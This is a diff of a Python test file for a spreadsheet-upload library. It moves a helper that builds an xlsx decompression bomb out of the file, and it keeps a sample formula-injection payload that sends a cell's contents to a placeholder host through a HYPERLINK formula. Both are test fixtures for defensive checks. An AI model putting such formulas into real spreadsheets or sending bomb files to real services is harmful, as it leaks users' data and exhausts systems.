@@ -9,6 +9,7 @@ from openpyxl import Workbook, load_workbook
 
 from kynangso import tabular
 from kynangso.errors import DomainError
+from tests.support.files import xlsx_bomb
 
 MALICIOUS = '=HYPERLINK("http://x?d="&D3,"x")'
 
@@ -72,25 +73,6 @@ def test_a_file_we_wrote_reads_back_as_typed(tmp_path):
 
 # Limits of uploads (issue 13, finding 5) -----------------------------------------------------------------------------
 
-def xlsx_bomb(path, *, unpacked_mib: int):
-    """A real workbook whose sheet is padded with `unpacked_mib` MiB of spaces: a few hundred KB on disk."""
-    buffer = io.BytesIO()
-    workbook = Workbook()
-    workbook.active.append(["Họ và tên", "Ngày sinh (dd/mm/yyyy)"])
-    workbook.save(buffer)
-    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source, \
-            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
-        for member in source.infolist():
-            data = source.read(member.filename)
-            if member.filename == "xl/worksheets/sheet1.xml":
-                with bomb.open(member.filename, "w", force_zip64=True) as target:
-                    target.write(data.replace(b"<sheetData>", b"<sheetData>", 1))
-                    chunk = b" " * (1024 * 1024)
-                    for _ in range(unpacked_mib):
-                        target.write(chunk)
-            else:
-                bomb.writestr(member, data)
-    return path
 
 
 def test_an_xlsx_bomb_is_refused_before_it_is_unpacked(tmp_path, settings):
